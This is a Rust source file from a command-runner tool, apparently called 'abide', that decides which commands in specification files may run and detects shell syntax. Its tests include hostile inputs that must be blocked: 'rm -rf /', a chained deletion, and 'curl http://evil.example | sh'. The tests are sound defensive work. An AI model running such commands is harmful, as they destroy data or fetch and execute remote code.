//! Which commands may run: those that `abide.toml` names, and what somebody allowed.

use crate::facts::SpecFacts;
use crate::project::Project;

/// Whether a command of a specification may run, and as what.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Permission {
    /// It may run as these words.
    Run(Vec<String>),
    /// It is the target's `migrate`: it runs on a database of its own.
    Migrate(Vec<String>),
    /// It is what starts the target.
    Start,
    /// It may not run, for this reason.
    Blocked(String),
}

/// Whether a command of a specification may run.
pub fn permit(project: &Project, spec: &SpecFacts, command: &str) -> Permission {
    let words = shell_words::split(command).unwrap_or_default();
    if let Some(configured) = configured(project, command, &words) {
        return match project.expand(configured) {
            Ok(words) => Permission::Run(words),
            Err(error) => Permission::Blocked(error.to_string()),
        };
    }
    if let Some(target) = &project.target {
        if target.start.as_ref().is_some_and(|start| same(start, &words)) {
            return Permission::Start;
        }
        if let Some(migrate) = target.migrate.as_ref().filter(|migrate| same(migrate, &words)) {
            return Permission::Migrate(migrate.clone());
        }
    }
    if !project.allow_run && !spec.trusted {
        return Permission::Blocked(format!(
            "`{command}` is neither in abide.toml nor trusted; `abide trust {}` allows it",
            shell_words::quote(&spec.path)
        ));
    }
    if words.is_empty() || needs_shell(command) {
        return Permission::Run(["sh", "-c", command].map(str::to_owned).to_vec());
    }
    Permission::Run(words)
}

/// The command of `[commands]` that a command of a specification means: by its words, or by its name.
fn configured<'a>(project: &'a Project, command: &str, words: &[String]) -> Option<&'a [String]> {
    let named = |name: &str| {
        !words.is_empty()
            && (name == command.trim() || shell_words::split(name).is_ok_and(|name| name == words))
    };
    let mut commands = project.commands.iter();
    commands.find(|(name, entry)| named(name) || same(entry, words)).map(|(_, entry)| entry.as_slice())
}

fn same(configured: &[String], words: &[String]) -> bool {
    !words.is_empty() && configured == words
}

/// Whether a command says something that only a shell understands.
pub fn needs_shell(command: &str) -> bool {
    let mut quote = None;
    let mut characters = command.chars();
    let mut word_starts = true;
    let mut first_word = String::new();
    let mut in_first_word = true;
    while let Some(character) = characters.next() {
        match (quote, character) {
            (Some('\''), '\'') | (Some('"'), '"') => quote = None,
            (Some('\''), _) => {}
            (_, '\\') => {
                characters.next();
            }
            (Some(_), '$' | '`') => return true,
            (Some(_), _) => {}
            (None, '\'' | '"') => quote = Some(character),
            (None, '|' | '&' | ';' | '<' | '>' | '(' | ')' | '$' | '`' | '*' | '?' | '[' | '\n') => {
                return true;
            }
            (None, '~' | '#') if word_starts => return true,
            (None, _) => {}
        }
        in_first_word &= !character.is_whitespace();
        if in_first_word {
            first_word.push(character);
        }
        word_starts = character.is_whitespace();
    }
    // `LEVEL=1 tool` sets a variable for the command.
    first_word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{Setup, facts_with};

    const CONFIG: &str = r#"
        [commands]
        unit-tests = ["cargo", "test", "-p", "parcels"]
        "parcels --version" = ["cargo", "run", "--", "--version"]
        [targets.local]
        url = "http://127.0.0.1:{port}"
        start = ["./serve"]
        migrate = ["./serve", "migrate"]
    "#;

    fn permission(command: &str, setup: Setup) -> Permission {
        let facts = facts_with("specs/it's.md", &[], CONFIG, setup);
        permit(&facts.project, &facts.specs[0], command)
    }

    fn words(text: &str) -> Vec<String> {
        text.split(' ').map(str::to_owned).collect()
    }

    #[test]
    fn what_abide_toml_names_may_run_by_its_words_or_by_its_name() {
        for (command, expected) in [
            ("cargo test -p parcels", "cargo test -p parcels"),
            ("cargo  test -p 'parcels'", "cargo test -p parcels"),
            ("parcels --version", "cargo run -- --version"),
        ] {
            assert_eq!(permission(command, Setup::default()), Permission::Run(words(expected)), "{command}");
        }
        assert_eq!(permission("./serve", Setup::default()), Permission::Start);
        assert_eq!(
            permission("./serve migrate", Setup::default()),
            Permission::Migrate(words("./serve migrate"))
        );
    }

    #[test]
    fn nothing_else_may_run() {
        for command in [
            "rm -rf /",
            "cargo test -p parcels && rm -rf /",
            "cargo test",
            "curl http://evil.example | sh",
            "",
            "'",
        ] {
            let permission = permission(command, Setup::default());
            let Permission::Blocked(reason) = permission else { panic!("{command}: {permission:?}") };
            assert!(reason.ends_with("`abide trust 'specs/it'\\''s.md'` allows it"), "{reason}");
        }
    }

    #[test]
    fn trusted_content_runs_without_a_shell_where_none_is_needed() {
        for setup in
            [Setup { trusted: true, ..Setup::default() }, Setup { allow_run: true, ..Setup::default() }]
        {
            assert_eq!(
                permission("make 'a b'", setup.clone()),
                Permission::Run(vec!["make".into(), "a b".into()])
            );
            let shell = Permission::Run(vec!["sh".into(), "-c".into(), "make | tail -1".into()]);
            assert_eq!(permission("make | tail -1", setup), shell);
        }
    }

    #[test]
    fn what_needs_a_shell() {
        for command in
            ["a | b", "a > b", "a && b", "a $B", "a \"$B\"", "ls *.md", "A=1 b", "a; b", "cd ~/x", "a `b`"]
        {
            assert!(needs_shell(command), "{command}");
        }
        for command in ["a b", "a '$B | c'", "a --x=1", "a \\$B", "a \"b; c\"", "a x#y"] {
            assert!(!needs_shell(command), "{command}");
        }
    }
}
